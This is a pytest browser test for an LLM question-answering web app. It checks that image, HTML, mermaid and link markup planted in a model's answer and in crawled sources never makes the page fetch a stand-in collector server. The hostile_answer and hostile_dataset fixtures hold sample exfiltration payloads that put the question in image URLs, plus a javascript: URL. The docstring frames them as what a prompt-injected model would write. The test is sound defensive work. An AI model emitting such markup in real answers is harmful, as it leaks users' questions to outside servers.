"""No answer or source makes the browser fetch a URL by itself: Debian's chromium (headless, driven by
Playwright) asks a question whose polished answer and crawled sources carry markdown images and links
built to send the question to another server, and that server must receive nothing."""

from __future__ import annotations

from dataclasses import replace

import pytest

from cazton_llm.atomic import write_jsonl
from cazton_llm.qa_schema import QARecord
from dataset_builder.build import build_dataset
from dataset_builder.config import BuildConfig
from space.config import SpaceConfig
from tests.space.conftest import browser_page, running_app
from tests.stand_ins.openai_server import OpenAIStandIn
from tests.stand_ins.site_server import serve_site

pytestmark = [pytest.mark.slow, pytest.mark.browser]
SITE = "http://127.0.0.1:8765"
QUESTION = "Which services does Northwind Forge offer?"
PASSAGE = "Northwind Forge offers cloud migration, data engineering and security reviews to its clients."


@pytest.fixture(scope="module")
def collector(tmp_path_factory):
    """Another server on 127.0.0.1 that logs every request: what an attacker would receive."""
    with serve_site(tmp_path_factory.mktemp("collector")) as server:
        yield server


def hostile_answer(collector_url: str) -> str:
    """A polished answer as a model obeying an injected page would write it."""
    return (
        f"We offer cloud migration. ![logo]({collector_url}inline.png?q=services)\n\n"
        f"![chart][leak]\n\n[leak]: {collector_url}reference.png?q=services\n\n"
        f"<img src='{collector_url}html.png'> [details]({collector_url}link?q=services)\n\n"
        f"```mermaid\nflowchart LR\n  A@{{ img: '{collector_url}mermaid.png', label: 'x', pos: 't', h: 60 }}\n```"
    )


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory, collector):
    """A dataset whose crawled sources carry markdown in their URL and HTML in their title, and whose
    questions (shown as examples) carry an image."""
    work = tmp_path_factory.mktemp("hostile-dataset")
    sources = [
        (f"{SITE}/services?a=1)![s]({collector.base_url}source-url.png", "Services"),
        (f"{SITE}/offer", f"Offer <img src={collector.base_url}source-title.png>"),
        ("javascript:alert(1)//", "Scripted"),
    ]
    questions = [f"{QUESTION} ![q]({collector.base_url}example.png)", f"{QUESTION} <img src=x>", QUESTION]
    records = [
        QARecord(question, f"{PASSAGE} Variant {n}.", url, title, PASSAGE, "test", "m").to_dict()
        for n, (question, (url, title)) in enumerate(zip(questions, sources, strict=True))
    ]
    write_jsonl(work / "clean.jsonl", records)
    build_dataset(BuildConfig(qa=work / "clean.jsonl", out=work / "dataset", test_fraction=0.34))
    return work / "dataset"


@pytest.fixture(scope="module")
def page(hostile_dataset, untrained_model, collector):
    config = SpaceConfig(
        base_model="unused", adapter="", dataset=str(hostile_dataset), company="Northwind Forge", device="cpu"
    )
    with OpenAIStandIn() as polisher, pytest.MonkeyPatch.context() as env:
        polisher.responder = lambda body: hostile_answer(collector.base_url)
        env.setenv("OPENAI_API_KEY", "sk-test")
        env.setenv("OPENAI_BASE_URL", polisher.url)
        with running_app(replace(config, max_new_tokens=8), untrained_model) as url, browser_page(url) as page:
            yield page


def test_no_image_or_link_in_an_answer_or_its_sources_fetches_anything(page, collector):
    page.get_by_role("button", name="Settings ▼").click()
    page.get_by_label("Polish with GPT (rewrites for clarity, adds no facts)").check()
    textbox = page.get_by_role("textbox").first
    textbox.fill(QUESTION)
    textbox.press("Enter")
    reply = page.locator(".bot", has_text="Sources").last
    reply.wait_for(timeout=60_000)
    page.wait_for_timeout(2_000)  # time for any image, stylesheet or diagram to load

    assert collector.requested_paths == [], (
        collector.requested_paths or "the browser fetched a URL the answer or a source planted"
    )
    shown = reply.inner_text()
    # images became links (loaded only if clicked), HTML and the diagram are shown as text
    assert "We offer cloud migration. !logo" in shown and "<img src=" in shown and "```mermaid" in shown
    assert reply.locator("img").count() == 0
    hrefs = [link.get_attribute("href") for link in reply.locator("a").all()]
    sources = [href for href in hrefs if href.startswith(SITE)]
    assert sources and all(")" not in href and "!" not in href for href in sources), hrefs
    assert not [href for href in hrefs if href.startswith("javascript:")]
